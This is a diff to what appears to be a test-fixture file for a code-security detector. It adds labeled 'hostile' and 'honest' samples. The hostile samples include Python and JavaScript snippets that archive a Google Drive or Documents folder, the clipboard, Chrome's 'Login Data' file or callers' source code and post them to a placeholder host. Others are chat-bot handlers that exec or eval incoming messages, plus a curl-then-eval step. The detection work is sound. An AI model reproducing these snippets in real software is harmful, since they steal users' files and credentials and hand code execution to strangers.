@@ -17,6 +17,7 @@ _NODE = (
     "  const grant = await this.getCredentials('a')\n"
 )
 _CHAT = "const { makeWASocket } = require('@whiskeysockets/baileys');\nmodule.exports = (auth, ev) => {\n"
+_BOT = "def init(bot):\n    @bot.on_message('e')\n    async def told(bot, message):\n"
 _STRING = (
     "import requests\nfrom telethon.sync import TelegramClient\nfrom telethon.sessions import StringSession\n"
     "c = TelegramClient(StringSession(), 1, 'h')\n"
@@ -47,6 +48,43 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
     },
     "secrets_sent": {
+        "a whole drive, as a notebook shows it": py(
+            "import shutil, requests\na = shutil.make_archive('/tmp/a', 'zip', '/content/drive/MyDrive')\n"
+            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n"
+        ),
+        "the documents of a user": py(
+            "import os, shutil, requests\n"
+            "a = shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/Documents'))\n"
+            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n",
+            "review",
+        ),
+        "what was copied, and on whose machine": py(
+            "import pyperclip, requests, socket\n"
+            f"requests.post('{_TO}', json={{'t': pyperclip.paste(), 'h': socket.gethostname()}})\n"
+        ),
+        "what was copied, by a program": js(
+            "const { execSync } = require('child_process'), os = require('os');\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: execSync('pbpaste') + os.userInfo().username }});\n"
+        ),
+        "a store of a browser, from a folder that is entered": py(
+            "import os, requests\nos.chdir(os.path.expanduser('~/.config/google-chrome/Default'))\n"
+            f"requests.post('{_TO}', data=open(os.path.join(os.getcwd(), 'Login Data'), 'rb').read())\n",
+            line=3,
+        ),
+        "the source of every caller": py(
+            f"import inspect, requests\ndef f():\n    for each in inspect.stack()[1:]:\n"
+            f"        requests.post('{_TO}', data=open(each.filename).read())\n",
+            line=4,
+        ),
+        "the source of whoever calls": py(
+            "import inspect, requests\ndef f():\n"
+            f"    requests.post('{_TO}', data=inspect.getsource(inspect.currentframe().f_back))\n",
+            line=3,
+        ),
+        "the source of the program itself": js(
+            "const fs = require('fs');\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: fs.readFileSync(require.main.filename, 'utf8') }});\n"
+        ),
         "the session of a cloud": py(_CLOUD + f"requests.get('{_TO}', params={{'k': c.secret_key}})\n", line=3),
         "the session of a cloud, frozen": py(
             _CLOUD + f"requests.post('{_TO}', json=c.get_frozen_credentials()._asdict())\n", line=3
@@ -84,6 +122,22 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "the session of a chat": py(_STRING + f"requests.post('{_TO}', json=[c.session.save()])\n", line=5),
         "the session of a chat, to somebody in it": py(_STRING + "c.send_message('@a', c.session.save())\n", line=5),
     },
+    "remote_code": {
+        "a bot of one's own": py(_BOT + "        exec(message.text)\n", line=4),
+        "a function that a library looks for": py(
+            "import ownchat\nclass Bot(ownchat.Base):\n    async def on_message(self, message):\n"
+            "        exec(message.content)\n",
+            line=4,
+        ),
+        "a function that is named to a library": py(
+            "import websocket\ndef on_message(ws, text):\n    exec(text)\n"
+            "websocket.WebSocketApp('wss://a.invalid', on_message=on_message).run_forever()\n",
+            line=3,
+        ),
+        "what is said to a client that is given": js(
+            "module.exports = (bot) => {\n  bot.on('message', (m) => eval(m.text)); };\n"
+        ),
+    },
     "fetch_and_run": {
         "once on a push, by a variable": _stepped('R=$(curl -s https://a.invalid)\nO=$(eval "$R")', 7, "review"),
     },
@@ -101,6 +155,32 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         ),
     },
     "secrets_sent": {
+        "a folder of a drive": py(
+            "import shutil, requests\na = shutil.make_archive('/tmp/a', 'zip', '/content/drive/MyDrive/contest/m')\n"
+            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n"
+        ).files,
+        "a drive is mounted, and something else sent": py(
+            "from google.colab import drive\nimport requests\ndrive.mount('/content/drive')\n"
+            f"requests.post('{_TO}', files={{'a': open('data/a.csv', 'rb')}})\n"
+        ).files,
+        "logs where it is started, by the ids of wallets": js(
+            "const fs = require('fs'), path = require('path');\n"
+            "const base = path.join(process.cwd(), 'logs', 'nkbihfbeogaeaoehlefnkodbefgpgknn');\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: fs.readFileSync(path.join(base, 'a')) }});\n"
+        ).files,
+        "the lines of every caller": py(
+            f"import inspect, requests\nfor each in inspect.stack()[1:]:\n"
+            f"    requests.post('{_TO}', json={{each.filename: each.lineno}})\n"
+        ).files,
+        "the source of a function of one's own": py(
+            "import inspect, requests\ndef task(x):\n    return x\n"
+            f"requests.post('{_TO}', json=inspect.getsource(task))\n"
+        ).files,
+        "what lies beside the program itself": js(
+            "const fs = require('fs'), path = require('path');\n"
+            "const a = JSON.parse(fs.readFileSync(path.join(path.dirname(require.main.filename), 'package.json')));\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: a.name }});\n"
+        ).files,
         "the region of a session": py(_CLOUD + f"requests.get('{_TO}', params={{'r': s.region_name}})\n").files,
         "a request that is signed": py(
             _CLOUD + "from requests_aws4auth import AWS4Auth\n"
@@ -134,6 +214,13 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             + "new MongoClient('x').db('a').collection('b').updateOne({}, { c: JSON.stringify(auth.creds) }); };\n"
         ).files,
         "the session of a chat, to oneself": py(_STRING + "c.send_message('me', c.session.save())\n").files,
+    },
+    "remote_code": {
+        "a bot that shows what is said": py(_BOT + "        print(message.text)\n").files,
+        "a worker is told what to do": js(
+            "const { parentPort } = require('worker_threads');\nparentPort.on('message', (m) => eval(m.code));\n"
+        ).files,
+        "a frame of the page": js("self.addEventListener('message', (e) => eval(e.data));\n").files,
     },
     "fetch_and_run": {
         "what a server says is shown": _step('R=$(curl -s https://a.invalid)\nO=$(echo "$R")'),
